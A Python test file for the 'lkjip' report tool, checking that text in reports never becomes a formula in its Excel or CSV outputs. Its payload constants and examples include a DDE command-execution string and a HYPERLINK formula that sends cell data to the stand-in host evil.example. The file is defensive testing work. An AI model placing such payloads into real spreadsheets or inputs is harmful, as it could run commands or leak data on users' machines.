"""Report text never becomes a formula in a spreadsheet or CSV file lkjip writes (issue 18).

A report travels: an OPD writes it, a Bappeda or an Inspektorat opens what lkjip made of it
in Excel. Excel evaluates a cell that begins with `=` (and, opened from CSV, also `+`, `-`,
`@`, a tab or a carriage return), so a sasaran named `=HYPERLINK(...)` or `=cmd|' /C
calc'!A0` must reach every workbook as a text cell and every CSV file neutralised (OWASP:
a `'` before the field), while numbers, negative ones too, stay numbers.

Nothing here is a hand-kept list of where text goes:

- the *writers* are every command option whose value is `xlsx` or `csv`, read from the
  commands' signatures (`MODE`); the options whose help says they are "Untuk" that format
  are run in all their values (`--locale mesin|id`, `--data`);
- the *text* is every free-text field of the report model (a `str` with no pattern), found
  by walking the pydantic models; four reports (the reference 2020 report, the 2023
  example, the Renja example and `LENGKAP` below, which holds what those do not) together
  fill every one,
  which a test asserts, and every one is replaced with hostile text;
- the workbooks are checked on their saved bytes: no formula anywhere (cell, defined name,
  data validation, chart reference) holds report text, and every cell that holds it is a
  text cell, marked as a typed `'=...` when it begins like a formula.

The hostile text is `PEMICU` (the formula triggers by OWASP, and the full-width forms) +
a body (a DDE call, a HYPERLINK, arithmetic, a number-looking `0,59`, or any text) +
`PENANDA` and a serial number, so that the test can find each one in the outputs.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import tempfile
import types
import typing
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from enum import Enum
from pathlib import Path
from typing import Annotated, Any, get_args, get_origin

import openpyxl
import pytest
import typer.utils
from conftest import MINIMAL, PROGRAM, listing, vary
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel
from typer.testing import CliRunner

from lkjip_cli.cli.app import app
from lkjip_cli.loader import load, load_text
from lkjip_cli.model.laporan import IndikatorKinerja, Laporan
from lkjip_cli.source.yamlteks import yaml_teks
from lkjip_cli.tabel import BUILDERS

ROOT = Path(__file__).resolve().parent.parent

#: What makes a spreadsheet evaluate a field: OWASP's characters and the full-width forms.
PEMICU = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: Bodies after the trigger: the DDE and HYPERLINK attacks, arithmetic, a number-looking
#: name, a quote and a separator (the csv module's to quote), a cell reference.
TUBUH = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?d="&A1,"klik")', "2+3",
         "0,59", '1+1";=1+1', "1,2;=3", "A1", "SUM(1,2)@")
#: Found in every hostile text and nowhere else: letters only, so XML never escapes it.
PENANDA = "JAHATLKJIP"

#: A report holding what 2020.yaml and contoh-2023.yaml do not: masukan of a sasaran,
#: scales of its own, a printed kategori of a sasaran, a budget tree with rincian.
LENGKAP = MINIMAL.replace("    nama: Sasaran satu\n", """\
    nama: Sasaran satu
    dilaporkan:
      kategori: {"3.5": Baik}
    masukan:
      - {nama: Dana, anggaran: true}
      - {nama: SDM, satuan: orang-hari, target: 100, realisasi: 90}
""") + """\
narasi:
  sampul: {judul: Laporan Kinerja Contoh}
  lampiran:
    - {judul: Lain-lain, isi: {teks: Lampiran lain., sumber: contoh}}
aturan:
  efisiensi: {sasaran: output-input}
  skala_interpretasi:
    - {kode: A, sebutan: Sangat Baik, mulai: 90}
    - {kode: B, sebutan: Baik, mulai: 75}
    - {kode: C, sebutan: Kurang, mulai: null}
  skala_predikat:
    - {kode: AA, sebutan: Memuaskan, mulai: 80}
    - {kode: B, sebutan: Cukup, mulai: null}
evaluasi_sakip:
  komponen:
    - {kode: K1, nama: Perencanaan, bobot: 100}
  hasil:
    - {tahun: 2020, nilai: {K1: 85}, dilaporkan: {predikat: {"3.2": Memuaskan}}}
pendapatan:
  judul: Realisasi Pendapatan BLUD
  sumber_data: Laporan Realisasi Anggaran
  baris_lain: {target: 1, realisasi: 1, keterangan: halaman lain}
  akun:
    - {kode: "4.1.04", uraian: Pendapatan BLUD, target: 10, realisasi: 11}
""" + vary(vary(PROGRAM, "        pagu: 2.000.000\n        realisasi: 1.500.000\n", """\
        rincian:
          - {kode: P01.01.1, nama: Sub kegiatan satu, pagu: 1000000, realisasi: 900000}
"""), "    kegiatan:\n", "    baris_lain: {pagu: 1, realisasi: 1, keterangan: halaman lain}\n"
    "    kegiatan:\n")

#: Free-text fields a report cannot fill with hostile text: the class codes of a spending
#: classification are checked against the classification (`5.1.01`, not a name), and a
#: derived indicator's formulas (realisasi and target) are read by the safe formula
#: language, which refuses `=`.
DITOLAK = {("JenisBelanja", "jenis"), ("KelompokBelanja", "kelompok"),
           ("HitungIndikator", "realisasi"), ("HitungIndikator", "target")}

#: File names, not text: the loader reads them from the report's own directory (never from
#: a report given as text, as these tests load it) and refuses any name that is not a file
#: there (tests/test_narasi.py). A narrative file's text reaches the workbook, not its name.
NAMA_BERKAS = {("Narasi", "berkas"), ("Sampul", "logo")}


# ------------------------------------------------------------- the model's free text


Medan = tuple[str, str]  # (model class, field)


def _teks_bebas(ann: Any, meta: Sequence[Any] = ()) -> bool:
    """Whether a field's type holds free text: a `str` without a pattern, anywhere in it
    (a tuple's items, a mapping's values, one arm of a union)."""
    if get_origin(ann) is Annotated:
        base, *extra = get_args(ann)
        return _teks_bebas(base, (*meta, *extra))
    if ann is str:
        return not any(getattr(m, "pattern", None) for m in meta)
    args = get_args(ann)
    if get_origin(ann) is dict:
        return _teks_bebas(args[1])
    if get_origin(ann) is tuple:
        return _teks_bebas(args[0])
    if get_origin(ann) in (typing.Union, types.UnionType):
        return any(_teks_bebas(a, meta) for a in args)
    return False


def _model_dalam(ann: Any) -> Iterator[type[BaseModel]]:
    if isinstance(ann, type) and issubclass(ann, BaseModel):
        yield ann
        return
    for a in get_args(ann):
        yield from _model_dalam(a)


def medan_bebas(cls: type[BaseModel] = Laporan, seen: set[type] | None = None) -> set[Medan]:
    """Every free-text field of the report model and the models inside it."""
    seen = set() if seen is None else seen
    if cls in seen:
        return set()
    seen.add(cls)
    out: set[Medan] = set()
    for name, f in cls.model_fields.items():
        ann = Annotated[f.annotation, *f.metadata] if f.metadata else f.annotation
        if _teks_bebas(ann) and (cls.__name__, name) not in NAMA_BERKAS:
            out.add((cls.__name__, name))
        for model in _model_dalam(f.annotation):
            out |= medan_bebas(model, seen)
    return out


def ganti_teks(node: Any, ganti: Callable[[Medan, str], str], medan: set[Medan],
               dipakai: set[Medan]) -> Any:
    """`node` with the text of every field in `medan` replaced by `ganti`; the fields
    replaced are added to `dipakai`."""
    if isinstance(node, BaseModel):
        ubah = {}
        for name in type(node).model_fields:
            lama = getattr(node, name)
            kunci = (type(node).__name__, name)
            baru = _ganti_nilai(lama, lambda s, k=kunci: ganti(k, s)) if kunci in medan \
                else lama
            if baru is not lama:
                dipakai.add(kunci)
            baru = ganti_teks(baru, ganti, medan, dipakai)
            if baru is not lama:
                ubah[name] = baru
        return node.model_copy(update=ubah) if ubah else node
    if isinstance(node, tuple):
        items = tuple(ganti_teks(x, ganti, medan, dipakai) for x in node)
        return items if any(a is not b for a, b in zip(items, node, strict=True)) else node
    if isinstance(node, dict):
        nilai = {k: ganti_teks(x, ganti, medan, dipakai) for k, x in node.items()}
        return nilai if any(nilai[k] is not node[k] for k in node) else node
    return node


def _ganti_nilai(v: Any, ganti: Callable[[str], str]) -> Any:
    if isinstance(v, str):
        return ganti(v)
    if isinstance(v, tuple) and v and all(isinstance(x, str) for x in v):
        return tuple(ganti(x) for x in v)
    if isinstance(v, dict) and v and all(isinstance(x, str) for x in v.values()):
        return {k: ganti(x) for k, x in v.items()}
    return v


def teks_yaml(lap: Laporan) -> str:
    return yaml_teks(lap.model_dump(mode="python", exclude_defaults=True))


def _dasar() -> list[Laporan]:
    out = []
    for teks in ((ROOT / "data" / "2020.yaml").read_text(encoding="utf-8"),
                 (ROOT / "data" / "contoh-2023.yaml").read_text(encoding="utf-8"),
                 (ROOT / "data" / "contoh-renja.yaml").read_text(encoding="utf-8"),
                 (ROOT / "data" / "contoh-hitung-2023.yaml").read_text(encoding="utf-8"),
                 LENGKAP):
        hasil = load_text(teks)
        assert hasil.report is not None, hasil.diagnostics
        out.append(hasil.report)
    return out


DASAR = _dasar()
BEBAS = medan_bebas() - DITOLAK


def test_every_free_text_field_is_filled_by_the_reports() -> None:
    dipakai: set[Medan] = set()
    for lap in DASAR:
        ganti_teks(lap, lambda k, s: s + "x", medan_bebas(), dipakai)
    assert medan_bebas() - dipakai == set()


def test_only_the_class_codes_refuse_hostile_text() -> None:
    """Each free-text field alone filled with a formula: the report stays valid, except for
    the fields of `DITOLAK`, which a classification checks."""
    ditolak = set()
    for medan in sorted(medan_bebas()):
        for lap in DASAR:
            dipakai: set[Medan] = set()
            baru = ganti_teks(lap, lambda k, s: f"=1+1{PENANDA}", {medan}, dipakai)
            if dipakai and not load_text(teks_yaml(baru)).ok:
                ditolak.add(medan)
    assert ditolak == DITOLAK


def test_the_reports_round_trip_through_yaml() -> None:
    for lap in DASAR:
        assert load_text(teks_yaml(lap)).report == lap


# ------------------------------------------------------------------ the writers


@dataclass(frozen=True, slots=True)
class Mode:
    """One output a spreadsheet opens: a command, its format option and the value."""

    perintah: str
    opsi: str
    nilai: str

    def __str__(self) -> str:
        return f"{self.perintah} {self.opsi} {self.nilai}"


def _opsi(callback: Callable[..., Any]) -> dict[str, tuple[Any, Any]]:
    """A command's options: first name -> (type, typer OptionInfo)."""
    out = {}
    for p in typer.utils.get_params_from_function(callback).values():
        if isinstance(p.default, typer.models.OptionInfo):
            out[p.default.param_decls[0]] = (p.annotation, p.default)
    return out


def mode_lembar() -> list[Mode]:
    """Every command option value `xlsx` or `csv`, from the commands' signatures."""
    out = []
    for info in app.registered_commands:
        assert info.name is not None and info.callback is not None
        for nama, (jenis, _) in _opsi(info.callback).items():
            if isinstance(jenis, type) and issubclass(jenis, Enum):
                out += [Mode(info.name, nama, v.value) for v in jenis
                        if v.value in ("xlsx", "csv")]
    return sorted(out, key=str)


def pengubah(mode: Mode) -> dict[str, tuple[str, ...]]:
    """The options whose help says they are for this output ("Untuk --format csv: ..."),
    with every value each can take (a flag: itself)."""
    info = next(c for c in app.registered_commands if c.name == mode.perintah)
    assert info.callback is not None
    out = {}
    for nama, (jenis, opsi) in _opsi(info.callback).items():
        if (opsi.help or "").startswith(f"Untuk {mode.opsi} {mode.nilai}"):
            enum = isinstance(jenis, type) and issubclass(jenis, Enum)
            out[nama] = tuple(v.value for v in jenis) if enum else \
                (nama,) if jenis is bool else ("*",)
    return out


#: The variants each output is run in; every option `pengubah` finds appears in them.
VARIAN: dict[str, tuple[tuple[str, ...], ...]] = {
    "compute --format csv": (("--out-dir", "*", "--locale", "mesin"),
                             ("--out-dir", "*", "--locale", "id")),
    "export --to xlsx": ((), ("--data",)),
    "init --to xlsx": ((),),
    "rekap --format csv": (("--per-indikator",),),
    "rekap --format xlsx": (("--per-indikator",),),
}


def _dijalankan(nama: str, varian: Sequence[str]) -> set[str]:
    """The values option `nama` takes in one variant: the argument after it, or for a flag
    the flag itself."""
    if nama not in varian:
        return set()
    i = varian.index(nama) + 1
    return {varian[i]} if i < len(varian) and not varian[i].startswith("-") else {nama}


def test_the_writers_are_found_and_each_runs_in_all_its_variants() -> None:
    assert [str(m) for m in mode_lembar()] == sorted(VARIAN)  # a new output needs a driver
    for mode in mode_lembar():
        for nama, nilai in pengubah(mode).items():
            dijalankan = set().union(*(_dijalankan(nama, v) for v in VARIAN[str(mode)]))
            assert dijalankan >= set(nilai), (str(mode), nama, nilai, dijalankan)


@dataclass(frozen=True, slots=True)
class Keluaran:
    nama: str
    isi: bytes | str
    pemisah: str = ","  # CSV only
    #: Every sheet must hold hostile text (the recap: its inputs fill each of its tables).
    setiap_lembar: bool = False


def _jalankan(*args: str) -> Any:
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        result.exception
    return result


def _varian(varian: Sequence[str], out_dir: str) -> list[str]:
    return [out_dir if a == "*" else a for a in varian]


def jalankan_compute(mode: Mode, varian: Sequence[str], lap: Bahan) -> list[Keluaran]:
    out = []
    for n, f in enumerate(lap.laporan):
        d = f"csv-{n}"
        result = _jalankan("compute", "-t", ",".join(BUILDERS), mode.opsi, mode.nilai,
                           "--force", *_varian(varian, d), "--", f)
        assert result.exit_code == 0, result.output
        pemisah = ";" if "id" in varian else ","
        out += [Keluaran(str(p), p.read_text(encoding="utf-8"), pemisah)
                for p in sorted(Path(d).iterdir())]
    return out


def _hanya_yaml(output: str) -> bool:
    """Whether `export --data` refused the report (`xlsx-lossy`) for fields that the data
    workbook does not hold by design (`HANYA_YAML`: a derived indicator's `hitung`) and for
    no other."""
    from lkjip_cli.buku.tata import HANYA_YAML

    paths = re.findall(r"error\[xlsx-lossy\]: ([^:]+):", output)
    bersih = {re.sub(r"\[[^]]*\]", "", p) for p in paths}
    return bool(bersih) and all(any(h == b or h.startswith(b + ".") for h in HANYA_YAML)
                                for b in bersih)


def jalankan_export(mode: Mode, varian: Sequence[str], lap: Bahan) -> list[Keluaran]:
    out = []
    for n, f in enumerate(lap.laporan):
        o = f"ekspor-{n}.xlsx"
        result = _jalankan("export", mode.opsi, mode.nilai, "-o", o, "--force", *varian,
                           "--", f)
        if "--data" in varian and _hanya_yaml(result.output):
            continue  # a report the data workbook refuses whole, by the fields it cannot hold
        assert result.exit_code == 0, result.output
        out.append(Keluaran(o, Path(o).read_bytes()))
    return out


def jalankan_init(mode: Mode, varian: Sequence[str], lap: Bahan) -> list[Keluaran]:
    result = _jalankan("init", mode.opsi, mode.nilai, "--instansi", lap.instansi, "--force",
                       *varian, "--", "isian.xlsx")
    assert result.exit_code == 0, result.output
    return [Keluaran("isian.xlsx", Path("isian.xlsx").read_bytes())]


def jalankan_rekap(mode: Mode, varian: Sequence[str], lap: Bahan) -> list[Keluaran]:
    o = f"rekap.{mode.nilai}"
    result = _jalankan("rekap", mode.opsi, mode.nilai, "-o", o, "-j", "1", "--force",
                       *varian, "--", *lap.rekap)
    assert result.exit_code == 2, result.output  # the invalid file is listed, exit 2
    isi = Path(o).read_bytes()
    if mode.nilai == "xlsx":
        return [Keluaran(o, isi, setiap_lembar=True)]
    return [Keluaran(o, isi.decode("utf-8"))]


PENGGERAK = {"compute": jalankan_compute, "export": jalankan_export, "init": jalankan_init,
             "rekap": jalankan_rekap}


# ---------------------------------------------------------------- hostile reports


@dataclass(frozen=True, slots=True)
class Bahan:
    """The hostile files of one example, in the current directory."""

    laporan: tuple[str, ...]  # one per report of DASAR
    #: for rekap: the reports of 2020, one a year earlier, a duplicate, an invalid file
    rekap: tuple[str, ...]
    instansi: str  # for init --instansi


def _tahun_lalu(lap: Laporan) -> Laporan:
    """The report a year earlier with every realisasi higher: a trend row and, per
    indicator, a fall from last year for `rekap --per-indikator`."""
    def naik(ind: IndikatorKinerja) -> IndikatorKinerja:
        r = ind.realisasi
        return ind if r is None else ind.model_copy(update={"realisasi": r + 1})

    sasaran = tuple(s.model_copy(update={"indikator": tuple(naik(i) for i in s.indikator)})
                    for s in lap.sasaran)
    return lap.model_copy(update={"tahun": lap.tahun - 1, "sasaran": sasaran})


def buat_bahan(teks: Sequence[str]) -> Bahan:
    """Write the reports with every free-text field hostile (`teks` in turn, each followed
    by PENANDA and a serial) and file names beginning like formulas."""
    n = iter(range(10**6))

    def ganti(_: Medan, __: str) -> str:
        i = next(n)
        return f"{teks[i % len(teks)]} {PENANDA}{i}"

    def nama(isi: str) -> str:
        i = next(n)
        f = f"{teks[i % len(teks)][0]}{PENANDA}{i}.yaml"
        Path(f).write_text(isi, encoding="utf-8")
        return f

    hostile = [ganti_teks(lap, ganti, BEBAS, set()) for lap in DASAR]
    laporan = tuple(nama(teks_yaml(lap)) for lap in hostile)
    rekap = (*(f for f, lap in zip(laporan, hostile, strict=True) if lap.tahun == 2020),
             nama(teks_yaml(_tahun_lalu(hostile[0]))), nama(teks_yaml(hostile[0])),
             nama("instansi: {nama: tidak lengkap}\n"))
    return Bahan(laporan, rekap, ganti(("Instansi", "nama"), ""))


# ------------------------------------------------------------------- the checks


def _pemicu(teks: str) -> bool:
    return len(teks) > 1 and teks.startswith(PEMICU)


#: Formula text in the parts of an XLSX file: cells, defined names, data validation,
#: conditional formats, chart references.
_RUMUS_XML = re.compile(r"<(?:\w+:)?(f|formula1|formula2|formula|definedName)\b[^>]*>"
                        r"(.*?)</(?:\w+:)?\1>", re.S)


def periksa_xlsx(k: Keluaran) -> int:
    """No formula holds report text; every cell holding it is text, marked when it begins
    like a formula. Returns how many cells hold report text."""
    assert isinstance(k.isi, bytes)
    with zipfile.ZipFile(io.BytesIO(k.isi)) as z:
        for part in z.namelist():
            if part.endswith(".xml"):
                for _, rumus in _RUMUS_XML.findall(z.read(part).decode("utf-8")):
                    assert PENANDA not in rumus, (k.nama, part, rumus)
    wb = openpyxl.load_workbook(io.BytesIO(k.isi))
    n = 0
    for ws in wb.worksheets:
        if k.setiap_lembar:
            assert any(PENANDA in str(c.value) for row in ws.iter_rows() for c in row), \
                (k.nama, ws.title)
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert PENANDA not in str(c.value), (k.nama, ws.title, c.coordinate)
                elif isinstance(c.value, str) and PENANDA in c.value:
                    n += 1
                    assert c.data_type == "s", (k.nama, ws.title, c.coordinate, c.value)
                    if _pemicu(c.value):
                        assert c.quotePrefix, (k.nama, ws.title, c.coordinate, c.value)
    return n


_ANGKA_CSV = {",": re.compile(r"-?\d+(\.\d+)?"), ";": re.compile(r"-?\d+(,\d+)?")}


def periksa_csv(k: Keluaran) -> int:
    """No field begins like a formula unless it is a number lkjip wrote; report text that
    did is prefixed with `'`. Returns how many fields hold report text."""
    assert isinstance(k.isi, str)
    n = 0
    for row in csv.reader(io.StringIO(k.isi, newline=""), delimiter=k.pemisah):
        for field in row:
            if _pemicu(field):
                assert _ANGKA_CSV[k.pemisah].fullmatch(field), (k.nama, field)
            if PENANDA in field:
                n += 1
                assert not field.startswith("'") or _pemicu(field[1:]), (k.nama, field)
    return n


def periksa(keluaran: Sequence[Keluaran]) -> None:
    n = sum(periksa_xlsx(k) if isinstance(k.isi, bytes) else periksa_csv(k)
            for k in keluaran)
    assert n > 0  # the hostile text did reach the output: the test can fail


# -------------------------------------------------------------------- the property


_TEKS = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=12)
payload = st.tuples(st.sampled_from(PEMICU), st.one_of(st.sampled_from(TUBUH), _TEKS)).map(
    "".join)


@pytest.mark.parametrize("mode", mode_lembar(), ids=str)
@settings(max_examples=2, derandomize=True, deadline=None, database=None)
@given(teks=st.lists(payload, min_size=1, max_size=4))
@example(teks=["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","klik")'])
@example(teks=[p + t for p, t in zip(PEMICU, TUBUH * 2, strict=False)])
def test_no_report_text_is_a_formula_in_any_spreadsheet(mode: Mode, teks: list[str]) -> None:
    with tempfile.TemporaryDirectory() as tmp, contextlib.chdir(tmp):
        bahan = buat_bahan(teks)
        for varian in VARIAN[str(mode)]:
            periksa(PENGGERAK[mode.perintah](mode, varian, bahan))


# ------------------------------------------------------------------ single cases


SEMUA_PEMICU = [p + t for p, t in zip(PEMICU, TUBUH * 2, strict=False)]


def test_the_data_workbook_gives_back_the_hostile_text_exactly() -> None:
    """Text cells keep the text as it is: no `'` is added to the value (the mark is the
    cell's style), so `lkjip import` reads back the same hostile 2020 report."""
    with tempfile.TemporaryDirectory() as tmp, contextlib.chdir(tmp):
        f = buat_bahan(SEMUA_PEMICU).laporan[0]
        assert _jalankan("export", "--to", "xlsx", "--data", "-o", "isian.xlsx",
                         "--", f).exit_code == 0
        assert _jalankan("import", "isian.xlsx", "-o", "kembali.yaml").exit_code == 0
        asli, kembali = load(f).report, load("kembali.yaml").report
        assert asli is not None and kembali is not None
        assert kembali.instansi.nama.startswith("=cmd|")
        # The data workbook has no column for `tingkat_anggaran` yet: the default comes back.
        assert kembali == asli.model_copy(update={"tingkat_anggaran": kembali.tingkat_anggaran})


def test_the_cascade_sheets_hold_hostile_text_as_text_and_give_it_back() -> None:
    """The Renja example (issue 23) through the data workbook: its node indicators, units,
    keterangan and the Evaluasi Renja narrative reach their sheets as text cells (marked
    where they begin like a formula) and `lkjip import` reads the same report back."""
    with tempfile.TemporaryDirectory() as tmp, contextlib.chdir(tmp):
        f = buat_bahan(SEMUA_PEMICU).laporan[2]
        assert _jalankan("export", "--to", "xlsx", "--data", "-o", "isian.xlsx",
                         "--", f).exit_code == 0
        wb = openpyxl.load_workbook("isian.xlsx")
        for lembar, judul in (("Indikator Simpul", "Nama"), ("Indikator Simpul", "Keterangan"),
                              ("Program Kegiatan", "Penanggung jawab"),
                              ("Evaluasi Renja", "Faktor pendorong"),
                              ("Evaluasi Renja", "Tindak lanjut Renja")):
            ws = wb[lembar]
            c = next(i for i, sel in enumerate(ws[1]) if sel.value == judul)
            sel = [r[c] for r in ws.iter_rows(min_row=2) if PENANDA in str(r[c].value)]
            assert sel and all(x.data_type == "s" for x in sel), (lembar, judul)
            assert all(x.quotePrefix for x in sel if _pemicu(str(x.value))), (lembar, judul)
        assert _jalankan("import", "isian.xlsx", "-o", "kembali.yaml").exit_code == 0
        assert load("kembali.yaml").report == load(f).report


TABEL_3_6 = MINIMAL.replace("nama: Indikator satu", 'nama: "-0,59"').replace(
    "realisasi: 72", "realisasi: 72\n        realisasi_sebelumnya: {2019: 80}")


@pytest.mark.parametrize(("locale", "baris"), [
    # (72 / 80 - 1) x 100 = -10 and 72 - 80 = -8: numbers, not prefixed; the name "-0,59"
    # is text, prefixed (and quoted where the comma is the separator)
    ("mesin", "1,\"'-0,59\",%,80,72,-10,-8\n"),
    # rounded as printed, comma decimals: -10,00 and -8,00
    ("id", "1;'-0,59;%;80;72;-10,00;-8,00\n"),
])
def test_negative_numbers_stay_numbers_and_a_name_like_one_is_text(
        tmp_path: Path, locale: str, baris: str) -> None:
    laporan = tmp_path / "laporan.yaml"
    laporan.write_text(TABEL_3_6, encoding="utf-8")
    result = _jalankan("compute", str(laporan), "-t", "3.6", "-f", "csv", "--locale", locale)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines(keepends=True)[1] == baris


KENDALI = MINIMAL.replace("nama: Sasaran satu", 'nama: "Sasaran\\x07satu"')


@pytest.mark.parametrize("args", [["export", "--to", "xlsx"],
                                  ["export", "--to", "xlsx", "--data"]])
def test_a_control_character_is_one_clear_error_and_nothing_written(
        tmp_path: Path, args: list[str]) -> None:
    """XLSX cannot hold a C0 control character; the refusal names the cell and the text."""
    laporan = tmp_path / "laporan.yaml"
    laporan.write_text(KENDALI, encoding="utf-8")
    out = tmp_path / "keluaran.xlsx"
    result = _jalankan(*args, "-o", str(out), str(laporan))
    assert result.exit_code == 2
    sel = "Tabel 2.1!C4" if "--data" not in args else "Sasaran!B2"
    assert result.stderr == (
        f"Tidak dapat menulis sel {sel}: teks \"Sasaran\\x07satu\" memuat karakter kendali "
        "(\\x07) yang tidak dapat disimpan dalam buku kerja Excel; hapus karakter itu dari "
        "berkas laporan.\n")
    assert not out.exists()


@pytest.mark.parametrize("teks", ["Dinas\\x07 Contoh", "Dinas\\x1b Contoh", "Dinas\\uFFFE"])
def test_a_control_character_in_a_word_export_is_one_clear_error(
        tmp_path: Path, teks: str) -> None:
    """A Word document is XML too: the instansi's name with a BEL (the case that ended in
    lxml's ValueError traceback with exit 0) is refused before anything is built, naming
    the first text that holds it and how many others do, exit 2, no file."""
    laporan = tmp_path / "laporan.yaml"
    laporan.write_text(MINIMAL.replace("nama: Dinas Contoh", f'nama: "{teks}"'),
                       encoding="utf-8")
    out = tmp_path / "keluaran.docx"
    result = _jalankan("export", "--to", "docx", "-o", str(out), str(laporan))
    assert result.exit_code == 2
    assert result.exception is None or isinstance(result.exception, SystemExit)
    tampak = teks.replace("\\uFFFE", "\\ufffe")
    assert result.stderr.startswith("Tidak dapat menulis ")
    # the text as the document prints it (a cover prints the name in capitals)
    assert "teks \"" in result.stderr and tampak.upper() in result.stderr.upper()
    assert "yang tidak dapat disimpan dalam dokumen Word" in result.stderr
    assert result.stderr.endswith("hapus karakter itu dari berkas laporan.\n")
    assert result.stderr.count("\n") == 1
    assert listing(tmp_path) == ["laporan.yaml"]


def test_init_instansi_with_a_control_character_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "isian.xlsx"
    result = _jalankan("init", str(out), "--to", "xlsx", "--instansi", "Dinas\x1b[31m")
    assert result.exit_code == 2
    assert result.stderr.startswith("Tidak dapat menulis sel Instansi!A2: teks "
                                    "\"Dinas\\x1b[31m\" memuat karakter kendali (\\x1b)")
    assert not out.exists()


def test_rekap_csv_lists_on_stderr_show_control_characters_escaped(tmp_path: Path) -> None:
    nama = MINIMAL.replace("nama: Dinas Contoh", 'nama: "Dinas\\x1b[31mMerah"')
    (tmp_path / "a.yaml").write_text(nama, encoding="utf-8")
    (tmp_path / "b.yaml").write_text(nama.replace("tahun: 2020", "tahun: 2019"),
                                     encoding="utf-8")
    result = _jalankan("rekap", str(tmp_path / "a.yaml"), str(tmp_path / "b.yaml"),
                       "-f", "csv", "-j", "1")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stderr
    assert "Perubahan dari Laporan Tahun Sebelumnya: Dinas\\x1b[31mMerah; 2019; 2020" \
        in result.stderr


def test_a_sheet_named_in_a_formula_has_its_quotes_doubled() -> None:
    from lkjip_cli.render.xlsx.lembar import lembar_ref

    ws = openpyxl.Workbook().create_sheet("Tabel 3.8 O'Neil")
    assert lembar_ref(ws) == "'Tabel 3.8 O''Neil'"


def test_only_sel_aman_puts_a_value_into_a_cell() -> None:
    """Every writer goes through `source/sel_aman.py`: no other module assigns a cell's
    `value` or passes a value to `ws.cell(...)`, where a string would become a formula."""
    import ast

    liar = []
    for path in sorted((ROOT / "lkjip_cli").rglob("*.py")):
        if path.name == "sel_aman.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            sasaran = node.targets if isinstance(node, ast.Assign) else []
            if any(isinstance(t, ast.Attribute) and t.attr == "value" for t in sasaran):
                liar.append(f"{path.name}:{node.lineno}")
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and \
                    node.func.attr == "cell" and (len(node.args) > 2 or any(
                        k.arg == "value" for k in node.keywords)):
                liar.append(f"{path.name}:{node.lineno}")
    assert liar == []


def test_a_control_character_only_in_the_documents_title_is_refused_too(
        tmp_path: Path) -> None:
    """Tabel 3.1 alone prints no instansi name, but the document's properties hold it."""
    laporan = tmp_path / "laporan.yaml"
    laporan.write_text(MINIMAL.replace("nama: Dinas Contoh", 'nama: "Dinas\\x07"'),
                       encoding="utf-8")
    out = tmp_path / "keluaran.docx"
    result = _jalankan("export", "--to", "docx", "-o", str(out), "--tabel", "3.1",
                       str(laporan))
    assert result.exit_code == 2
    assert result.stderr == (
        "Tidak dapat menulis judul di properti dokumen: teks \"LKjIP Dinas\\x07 Tahun 2020\" "
        "memuat karakter kendali (\\x07) yang tidak dapat disimpan dalam dokumen Word; hapus "
        "karakter itu dari berkas laporan.\n")
    assert listing(tmp_path) == ["laporan.yaml"]
